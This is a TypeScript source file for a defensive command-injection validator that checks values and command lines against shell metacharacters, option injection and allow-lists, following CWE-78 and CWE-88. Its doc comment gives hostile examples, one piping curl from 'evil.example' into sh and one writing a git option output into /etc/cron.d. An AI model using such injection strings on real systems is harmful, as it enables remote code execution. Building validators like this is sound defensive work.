/**
 * Commands: would this value only be a value, this command line only the command that is allowed?
 *
 * Decides on text alone. A **value** that a server puts into a command must be harmless in every place it may stand: bare or in
 * quotes, for POSIX shells, cmd.exe and PowerShell, and as an argument that a program could take for an option. A **command
 * line** is cut into words as its shell would, with every separator, redirection and expansion refused, and must be one that a
 * pattern allows; what a `*` stands for may not be an option that runs, writes or sends, in any abbreviation of it. Follows
 * CWE-78, CWE-88. One pass over the text.
 *
 * Cannot know: what a program does with a value that it takes as one (a path, an address: their own controls), and options of
 * programs it has no table of, which is why there a `*` stands for none.
 *
 * @example
 * checkCommand('main; curl evil.example | sh', { kind: 'value' })
 * // { ok: false, rule: 'command/metacharacter', offset: 4, explain: 'The value has ;, which a shell takes for its own ...' }
 * checkCommand('git log --outp=/etc/cron.d/x', { kind: 'command', allow: ['git log *'] })
 * // { ok: false, rule: 'command/option', offset: 2, explain: 'The command has the option --outp=/etc/cron.d/x ...' }
 */
import { visible } from '../text/index.ts'
import { findInCommand } from './commandLine.ts'
import { type CommandFault, fault } from './fault.ts'
import {
  type CommandLinePolicy,
  type CommandPolicy,
  DEFAULT_MAX_LENGTH,
  type Shell,
  type ValuePolicy,
} from './policy.ts'
import type { CommandRule } from './rules.ts'
import { findInValue } from './value.ts'
import { readWords } from './words.ts'

export type { CommandLinePolicy, CommandPolicy, Shell, ValueContext, ValuePolicy } from './policy.ts'
export { COMMAND_RULES, type CommandRule } from './rules.ts'

export type CommandDecision =
  | {
      readonly ok: true
      /** The words that the program is given: of a command line given as text, as its shell would cut it. */
      readonly words: readonly string[]
    }
  | {
      readonly ok: false
      readonly rule: CommandRule
      /** Index of the character in a text; of the word in a command. */
      readonly offset: number
      /** One sentence: what, and what to do. Fit to be shown. */
      readonly explain: string
    }

const SHELLS: readonly Shell[] = ['sh', 'cmd', 'powershell']

/** Says whether a value may be put into a command, or a command be run. A list is a command, or values, as words. */
export function checkCommand(candidate: string | readonly string[], policy: CommandPolicy): CommandDecision {
  return policy.kind === 'value' ? checkValue(candidate, policy) : checkLine(candidate, policy)
}

function checkValue(candidate: string | readonly string[], policy: ValuePolicy): CommandDecision {
  const values = typeof candidate === 'string' ? [candidate] : candidate
  for (const value of values) {
    const found =
      findTooLong(value, policy.maxLength) ??
      findInValue(value, policy.context ?? 'any', policy.shells ?? SHELLS)
    if (found !== undefined) return refusal('value', found)
  }
  return { ok: true, words: values }
}

function checkLine(candidate: string | readonly string[], policy: CommandLinePolicy): CommandDecision {
  const text = typeof candidate === 'string' ? candidate : candidate.join(' ')
  const tooLong = findTooLong(text, policy.maxLength)
  if (tooLong !== undefined) return refusal('command', tooLong)
  const read = typeof candidate === 'string' ? readWords(candidate, policy.shell ?? 'sh') : undefined
  if (read?.ok === false) return refusal('command', read.fault)
  const words = read?.words ?? (typeof candidate === 'string' ? [] : candidate)
  const found = findInCommand(words, policy.allow)
  return found === undefined ? { ok: true, words } : refusal('command', found)
}

function findTooLong(text: string, maxLength = DEFAULT_MAX_LENGTH): CommandFault | undefined {
  if (text.length > maxLength) return fault('command/size', maxLength, `more than ${maxLength} characters`)
  if (!text.isWellFormed()) return fault('command/unreadable', 0, 'half a surrogate pair')
  return undefined
}

const ADVICE: Readonly<Record<CommandRule, string>> = {
  'command/size': 'shorten it, or raise maxLength',
  'command/empty': 'give a command',
  'command/control-character': 'leave it out',
  'command/metacharacter':
    'leave it out; if the server runs no shell, its parameter can be declared as an argument',
  'command/expansion':
    'leave it out; if the server runs no shell, its parameter can be declared as an argument',
  'command/quote': 'leave it out; if the server runs no shell, its parameter can be declared as an argument',
  'command/glob': 'name the files, or begin with ./',
  'command/option': 'leave it out; a file of that name can be written ./-name',
  'command/assignment': 'leave it out',
  'command/transport': 'use an https address',
  'command/interpreter': 'a person has to allow it word for word',
  'command/not-allowed': 'use a command that is allowed, or have a pattern added to allow',
  'command/unreadable': 'write it with plain words and quotes',
}

function refusal(what: 'value' | 'command', { rule, offset, what: has }: CommandFault): CommandDecision {
  return { ok: false, rule, offset, explain: `The ${what} has ${visible(has)}: ${ADVICE[rule]}.` }
}
